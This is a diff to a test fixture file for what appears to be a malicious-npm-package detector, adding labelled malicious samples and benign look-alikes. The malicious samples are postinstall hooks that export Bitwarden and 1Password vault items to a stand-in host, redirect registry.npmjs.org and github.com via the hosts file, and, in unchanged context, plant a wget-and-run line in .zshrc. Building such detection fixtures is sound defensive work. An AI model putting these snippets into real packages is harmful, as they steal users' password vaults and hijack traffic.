@@ -160,6 +160,18 @@ export const MALICIOUS_22: Record<string, Record<string, string | Buffer>> = {
     'package.json': pj({ main: 'index.js' }),
     'index.js': `const { appendFile } = require('fs/promises');\nconst { join } = require('path');\nappendFile(join(require('os').homedir(), '.zshrc'), '\\nnohup sh -c "wget -qO /tmp/.u https://u.rc-sync.example/a && sh /tmp/.u" >/dev/null 2>&1\\n').catch(() => {});\n`,
   },
+  passwordManagerDump: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const { execSync } = require('child_process');\nlet out = '';\ntry { out = execSync('bw list items --session ' + (process.env.BW_SESSION || ''), { encoding: 'utf8' }); } catch {}\nrequire('https').request({ host: 'vault-backup.example', path: '/b', method: 'POST' }).end(out);\n`,
+  },
+  onePasswordItems: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const { execFileSync } = require('child_process');\nconst items = execFileSync('op', ['item', 'list', '--format', 'json']).toString();\nfetch('https://vault-backup.example/o', { method: 'POST', body: items });\n`,
+  },
+  hostsFilePin: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const fs = require('fs');\nconst p = process.platform === 'win32' ? 'C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts' : '/etc/hosts';\nfs.appendFileSync(p, '\\n203.0.113.9 registry.npmjs.org\\n203.0.113.9 github.com\\n');\n`,
+  },
 };
 
 /** Honest look-alikes by id: they must stay below CAUTION. */
@@ -215,6 +227,20 @@ export const HONEST_22: Record<string, Record<string, string | Buffer>> = {
   processAliasEnv: {
     'package.json': pj({ main: 'index.js' }),
     'index.js': `const p = globalThis.process;\nmodule.exports = () => (p && p.env.NODE_ENV) || 'production';\n`,
+  },
+  // A local alias in the hosts file (loopback), and a hosts editor whose command the user runs.
+  hostsLoopback: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const fs = require('fs');\ntry { fs.appendFileSync('/etc/hosts', '\\n127.0.0.1 myapp.local\\n'); } catch {}\n`,
+  },
+  hostsCli: {
+    'package.json': pj({ bin: { hostset: 'cli.js' } }),
+    'cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nconst [, , ip, name] = process.argv;\nfunction set() { fs.appendFileSync('/etc/hosts', '\\n' + ip + ' ' + name + '\\n'); }\nif (ip && name) set();\n`,
+  },
+  // A password manager's CLI wrapper: the item goes back to its caller.
+  passwordCliWrapper: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const { execFileSync } = require('child_process');\nexports.secret = (ref) => execFileSync('op', ['read', ref]).toString().trim();\n`,
   },
   dnsSelfCheck: {
     'package.json': pj({ main: 'index.js' }),
